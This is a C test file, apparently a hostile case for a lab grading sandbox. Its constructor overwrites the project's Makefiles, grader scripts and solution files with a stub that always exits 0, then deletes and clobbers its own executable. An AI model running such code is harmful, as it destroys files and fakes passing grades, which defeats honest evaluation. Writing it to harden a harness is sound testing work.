/*
 * hostile: overwrites every grader, solution, harness and build file it can name
 * expect: pass
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
static void hostile_clobber(const char *path)
{
	int fd = open(path, O_WRONLY | O_TRUNC | O_CREAT, 0644);

	if (fd >= 0) {
		if (write(fd, "#!/bin/sh\nexit 0\n", 17) < 0)
			perror(path);
		close(fd);
	}
}
static void __attribute__((constructor)) hostile_rewrite(void)
{
	static const char *const paths[] = {
		"Makefile", "lab.mk", "README.md", "../lab.mk", "../../Makefile",
		"../../grader/grade", "../../grader/lib/memlab.bash",
		"/work/main/Makefile", "/work/main/grader/grade", "/work/main/solutions/README",
		"/tmp/memlab-owned", "/proc/self/exe",
	};
	char exe[4096];
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);

	for (unsigned i = 0; i < sizeof(paths) / sizeof(paths[0]); i++)
		hostile_clobber(paths[i]);
	if (n > 0) {
		exe[n] = '\0';
		unlink(exe);
		hostile_clobber(exe);
	}
}
